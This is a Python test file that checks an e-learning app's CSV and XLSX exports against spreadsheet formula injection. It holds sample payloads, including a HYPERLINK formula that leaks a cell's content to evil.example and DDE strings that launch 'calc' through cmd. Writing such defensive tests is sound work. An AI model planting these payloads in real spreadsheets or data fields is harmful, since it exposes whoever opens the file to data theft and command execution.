"""No cell of an exported table begins like a formula, however a spreadsheet cuts the lines.

A spreadsheet in most languages of the region takes a semicolon for the end of a cell, and some
ask a person: what stands behind one inside a cell may become a cell of its own.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable, Iterator
from datetime import datetime

import cast
import making
import pytest
from cast import SANA, VERA
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from sending import Browser
from unchanged import nothing_changes

from elearn import audit
from elearn.db import db, transaction
from elearn.models.people import Unit
from elearn.people import units, users
from elearn.reports import sheets
from tests.test_doors import routes

ClientAs = Callable[[str | None], Browser]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CELLS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "x\r\n=1+1",
    "x;=1+1;y",
    "x\t=1+1",
    "\uff1d1+1",
    '"=1+1',
    '";=1+1;"',
)


def cells(text: str) -> Iterator[str]:
    """Every cell that a spreadsheet may find, by each of the signs that cells are cut at."""
    for sign in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=sign):
            yield from row
    for line in text.splitlines():
        for sign in (",", ";", "\t"):
            yield from next(csv.reader([line], delimiter=sign), [])


def formulas(text: str) -> list[str]:
    return [cell for cell in cells(text) if cell.startswith(STARTS)]


def test_what_is_looked_for_is_found() -> None:
    assert formulas("a,=1+1\r\n") == ["=1+1", "=1+1"]
    assert formulas("a;=1+1,b\r\n")


@pytest.mark.parametrize("cell", CELLS, ids=range(len(CELLS)))
def test_no_cell_of_the_exported_record_is_a_formula(
    app: Flask, client_as: ClientAs, at: datetime, cell: str
) -> None:
    with transaction():
        unit = units.add(cell, "country", at=at, state="kz")
        users.add(None, "".join(cell.split()), role="officer", at=cast.BORN, name=cell, unit=unit)
        audit.record(None, "add unit", cell, at=cast.BORN, because=cell, name=cell)
    vera = client_as(VERA)

    with nothing_changes():
        answer = vera.get("/admin/audit.csv")

    text = answer.get_data().decode("utf-8-sig")
    assert (answer.status_code, answer.mimetype) == (200, "text/csv")
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert formulas(text) == []
    objects = {row[3] for row in csv.reader(io.StringIO(text, newline=""))}
    assert sheets.safe(cell) in objects
    if cell.startswith(STARTS):
        assert f"'{cell}"[:2] in {one[:2] for one in objects}


@given(st.text(st.sampled_from([*STARTS, ";", ",", '"', "'", "1", "x", " ", "я"]), max_size=12))
def test_whatever_is_put_together(cell: str) -> None:
    line = io.StringIO(newline="")
    csv.writer(line).writerow(["x", sheets.safe(cell), "y"])

    assert not formulas(line.getvalue()), line.getvalue()
    assert sheets.safe(cell).replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("cell", CELLS, ids=range(len(CELLS)))
def test_no_cell_of_the_exported_matrix_is_a_formula(
    app: Flask, client_as: ClientAs, at: datetime, cell: str
) -> None:
    an_officer_called(cell, at=at)
    making.an_assignment(at=at)

    answer = client_as(SANA).get("/supervise/completion.csv?rank=")
    text = answer.get_data().decode("utf-8-sig")
    assert (answer.status_code, answer.mimetype) == (200, "text/csv")
    assert formulas(text) == []
    told = {one for row in csv.reader(io.StringIO(text, newline="")) for one in row}
    assert sheets.safe(cell) in told


@pytest.mark.parametrize("cell", CELLS, ids=range(len(CELLS)))
def test_every_cell_of_the_matrix_is_text_in_xlsx(
    app: Flask, client_as: ClientAs, at: datetime, cell: str
) -> None:
    an_officer_called(cell, at=at)
    making.an_assignment(at=at)

    file = client_as(SANA).get("/supervise/completion.xlsx").data
    rows = CalamineWorkbook.from_filelike(io.BytesIO(file)).get_sheet_by_index(0).to_python()
    row = next(row for row in rows if row[0] == "0077")
    assert row[3] == row[4] == cell
    assert_no_formula(file)


@pytest.mark.parametrize("cell", CELLS, ids=range(len(CELLS)))
def test_every_cell_of_a_period_report_is_text_in_xlsx(
    app: Flask, client_as: ClientAs, at: datetime, cell: str
) -> None:
    an_officer_called(cell, at=at)
    sana = client_as(SANA)

    address = sana.post("/supervise/reports/", {"go": "xlsx", "signatory": cell}).location
    file = sana.get(address).data
    book = CalamineWorkbook.from_filelike(io.BytesIO(file))
    for place in (0, 1):
        told = {row[0] for row in book.get_sheet_by_index(place).to_python()}
        assert cell in told
    assert_no_formula(file)


def an_officer_called(cell: str, *, at: datetime) -> None:
    """Somebody beside Sana, whose fields of a roster all say this."""
    with transaction():
        sana = users.by_login(SANA)
        assert sana
        unit = db.session.get(Unit, sana.unit_id)
        person = users.add(None, "odd", role="officer", at=at, name=cell, unit=unit)
        person.service_number, person.latin_name = "0077", cell
        person.rank = person.position = cell


def assert_no_formula(file: bytes) -> None:
    """No cell is one, and nothing leads out of the file."""
    with zipfile.ZipFile(io.BytesIO(file)) as parts:
        for name in parts.namelist():
            text = parts.read(name).decode()
            assert "<f>" not in text, name
            assert "<f " not in text, name
            assert 'TargetMode="External"' not in text, name


def test_there_is_no_other_table(app: Flask) -> None:
    """A table that is added is asked for here, to be put to the same test."""
    tables = {rule for rule, _ in routes(app) if rule.endswith((".csv", ".xlsx", ".ods", ".tsv"))}

    assert tables == {
        "/admin/audit.csv",
        "/supervise/completion.csv",
        "/supervise/completion.xlsx",
        "/supervise/reports/<uuid:report_id>.xlsx",
    }
